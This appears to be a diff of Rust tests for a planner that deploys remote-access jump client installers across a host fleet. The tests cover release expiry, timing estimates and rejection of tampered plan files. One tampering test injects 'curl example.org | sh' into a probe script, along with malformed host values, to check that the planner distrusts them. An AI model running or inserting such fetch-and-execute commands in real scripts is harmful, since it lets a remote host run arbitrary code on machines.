@@ -32,6 +32,7 @@ fn fleet(count: usize, vars: &str) -> Vec<Host> {
 struct World {
     appliance: Appliance,
     release: Release,
+    other: Option<Release>,
     rate: Rate,
     at_once: u32,
 }
@@ -50,6 +51,7 @@ impl Default for World {
                 overrides: ["tag", "jump_group"].map(str::to_owned).into(),
                 files: files.into(),
             },
+            other: None,
             rate: Rate::VENDOR_LIMIT,
             at_once: 48,
         }
@@ -58,10 +60,12 @@ impl Default for World {
 
 impl World {
     fn plan(&self, hosts: Vec<Host>) -> Result<Plan, Mistakes> {
-        let releases = BTreeMap::from([("main".to_owned(), self.release.clone())]);
+        let releases = [Some(&self.release), self.other.as_ref()].into_iter().flatten();
+        let releases: BTreeMap<_, _> =
+            releases.map(|release| (release.name.clone(), release.clone())).collect();
         planner::needs(&hosts, &releases, Some("main"))?;
-        let installer = |(platform, pattern): (&Platform, &String)| InstallerFile {
-            release: "main".into(),
+        let installer = |release: &Release, platform: &Platform, pattern: &String| InstallerFile {
+            release: release.name.clone(),
             platform: *platform,
             pattern: pattern.clone(),
             shown: "bomgar-pec-‹key 1a2b3c4d›.bin".into(),
@@ -70,6 +74,9 @@ impl World {
             sha256: "0".repeat(64),
             bytes: 1,
         };
+        let installers = releases.values().flat_map(|release| {
+            release.files.iter().map(|(platform, pattern)| installer(release, platform, pattern))
+        });
         planner::plan(Request {
             now: NOW.parse::<Timestamp>().expect("a moment"),
             tool_version: "0",
@@ -84,7 +91,7 @@ impl World {
             expected_install: Duration::from_secs(20),
             install_deadline: None,
             hosts,
-            installers: self.release.files.iter().map(installer).collect(),
+            installers: installers.collect(),
         })
     }
 }
@@ -154,6 +161,40 @@ fn installers_that_expire_before_the_end_forbid_the_plan() {
     has(&world.plan(fleet(1, "")).expect("a plan"), FindingLevel::Error, "installer_expired");
     world.release.expires = None;
     has(&world.plan(fleet(1, "")).expect("a plan"), FindingLevel::Warning, "installer_expiry_unknown");
+}
+
+#[test]
+fn starts_are_no_faster_than_visits_become_free() {
+    let world = World { at_once: 2, ..World::default() };
+    let plan = world.plan(fleet(5, "")).expect("a plan");
+    assert!((plan.estimate.starts - 40.0).abs() < 1e-6, "{}", plan.estimate.starts);
+    assert_eq!(plan.estimate.done, "2026-03-01T20:01:00Z".parse().expect("a moment"));
+    let one = World { at_once: 1, ..World::default() }.plan(fleet(5, "")).expect("a plan");
+    assert!((one.estimate.starts - 80.0).abs() < 1e-6, "{}", one.estimate.starts);
+}
+
+#[test]
+fn a_release_must_last_until_its_own_last_host_is_done() {
+    let text = "all:\n  vars: {jc_platform: linux_headless, jc_user: j, ansible_become: true}\n  hosts:\n    \
+                a: {jc_wave: one, jc_release: old}\n    b: {jc_wave: two}\n    c: {jc_wave: two}\n";
+    let expiring = |moment: &str| {
+        let mut world = World { at_once: 1, ..World::default() };
+        world.other = Some(Release {
+            name: "old".into(),
+            expires: Some(moment.parse().expect("a moment")),
+            ..world.release.clone()
+        });
+        world.plan(hosts(text)).expect("a plan")
+    };
+    let plan = expiring("2026-03-01T20:00:30Z");
+    assert!(!planner::has_errors(&plan), "{:?}", plan.findings);
+    has(&expiring("2026-03-01T20:00:19Z"), FindingLevel::Error, "installer_expires_too_soon");
+    let later = plan.created + jiff::SignedDuration::from_secs(11);
+    let late = planner::too_late(&plan, later, |_| true);
+    assert_eq!(late.len(), 1);
+    assert!(late[0].contains("`old` expire at 2026-03-01T20:00:30Z"), "{late:?}");
+    assert!(late[0].contains("done at 2026-03-01T20:00:31Z"), "{late:?}");
+    assert!(planner::too_late(&plan, later, |host| host > 0).is_empty());
 }
 
 #[test]
@@ -257,4 +298,94 @@ fn a_plan_survives_its_file() {
     let text = String::from_utf8(file).expect("text");
     let changed = text.replacen("192.0.2.1", "192.0.2.9", 1);
     assert_eq!(planner::parse(changed.as_bytes()), Err(planner::PlanError::Changed));
+}
+
+/// A plan as a file with its id reckoned anew, as somebody would who changes it on purpose.
+fn reread(change: impl FnOnce(&mut Plan)) -> Result<Plan, planner::PlanError> {
+    let vars = "    jc_tag: web\n    jc_staging_dir: /var/tmp\n    jc_marker_file: /etc/client\n";
+    let mut plan = World::default().plan(fleet(3, vars)).expect("a plan");
+    plan.inputs.push(jumpfleet::model::Input { path: "/fleet.yaml".into(), sha256: "0".repeat(64) });
+    change(&mut plan);
+    planner::identify(&mut plan);
+    let mut file = Vec::new();
+    planner::write_json(&plan, &mut file).expect("memory takes it");
+    planner::parse(&file)
+}
+
+#[track_caller]
+fn distrusted(why: &str, change: impl FnOnce(&mut Plan)) {
+    let faults = planner::distrusted(&reread(change).expect("a plan")).join("; ");
+    assert!(faults.contains(why), "{faults}");
+}
+
+#[test]
+fn a_plan_of_this_version_is_trusted_with_every_kind_of_host() {
+    assert_eq!(planner::distrusted(&reread(|_| {}).expect("a plan")), [""; 0]);
+    let longer = |plan: &mut Plan| plan.treatments[0].invocation.install.deadline = 7200;
+    assert_eq!(planner::distrusted(&reread(longer).expect("a plan")), [""; 0]);
+    let kinds = "all:\n  vars: {jc_tag: x}\n  hosts:\n    \
+                 a: {jc_platform: linux_service, ansible_become: true}\n    \
+                 b: {jc_platform: linux_headless, jc_install_dir: /home/b/j, jc_boot: none}\n    \
+                 c: {jc_platform: linux_headless, jc_user: j, ansible_user: root, jc_install_dir: /opt/j/}\n    \
+                 d: {jc_platform: macos_dmg, ansible_become: true}\n    \
+                 e: {jc_platform: windows_msi, jc_install_dir: 'C:\\Jump'}\n    \
+                 f: {jc_platform: windows_exe}\n";
+    let mut world = World::default();
+    let files = Platform::ALL.iter().map(|platform| (*platform, "bomgar-pec-*".to_owned()));
+    world.release.files = files.collect();
+    let mut plan = world.plan(hosts(kinds)).expect("a plan");
+    plan.inputs.push(jumpfleet::model::Input { path: "/fleet.yaml".into(), sha256: "0".repeat(64) });
+    assert_eq!(planner::distrusted(&plan), [""; 0]);
+}
+
+#[test]
+fn a_plan_that_says_something_else_is_not_trusted() {
+    distrusted("other scripts", |plan| {
+        let probe = &mut plan.treatments[0].invocation.probe.script;
+        *probe = probe.clone().text("\ncurl example.org | sh");
+    });
+    distrusted("its release does not give", |plan| {
+        plan.releases.get_mut("main").expect("a release").overrides.clear();
+    });
+    distrusted("no file it was made from", |plan| plan.inputs.clear());
+    distrusted("not a site", |plan| plan.appliance.site = "PRA.example.org".into());
+    distrusted("closer together", |plan| plan.estimate.interval = 0.1);
+    let value = |slot: Slot, value: &'static str| {
+        move |plan: &mut Plan| {
+            plan.hosts[1].values.insert(slot, value.into());
+        }
+    };
+    let tag = Slot::Parameter(jumpfleet::model::Parameter::Tag);
+    distrusted("host `h2`: a control character", value(tag, "a\nb"));
+    distrusted("`jc_user` is `a b`", value(Slot::User, "a b"));
+    distrusted("write a whole path", value(Slot::InstallDir, "opt/x"));
+    distrusted("write a whole path", value(Slot::MarkerFile, "x"));
+    distrusted("does not begin at the root", value(Slot::Staging, "tmp"));
+    distrusted("do not fit", value(Slot::InstallParent, "/etc"));
+    distrusted("do not fit", |plan| plan.accesses[0].elevate = false);
+}
+
+#[test]
+fn a_plan_with_impossible_values_is_not_read() {
+    let odd = |change: fn(&mut Plan)| matches!(reread(change), Err(planner::PlanError::Odd(_)));
+    assert!(odd(|plan| plan.at_once = 0));
+    assert!(odd(|plan| plan.at_once = 2001));
+    assert!(odd(|plan| plan.installers[0].sha256 = "short".into()));
+    assert!(odd(|plan| plan.inputs[0].sha256 = "g".repeat(64)));
+}
+
+#[test]
+fn the_way_into_a_host_is_shown() {
+    let vars = "    ansible_become_password: {env: SUDO}\n    ansible_password: {file: /run/login}\n    \
+                ansible_ssh_common_args: '-o StrictHostKeyChecking=accept-new -o UserKnownHostsFile=/k -J b'\n";
+    let text = shown(&World::default().plan(fleet(2, vars)).expect("a plan"));
+    for part in [
+        "sudo password from {env: SUDO}",
+        "login password from {file: /run/login}",
+        "unknown host keys are accepted (accept-new)",
+        "known hosts from /k",
+        "through b:22",
+    ] {
+        assert!(text.contains(part), "{part} is not in {text}");
+    }
 }
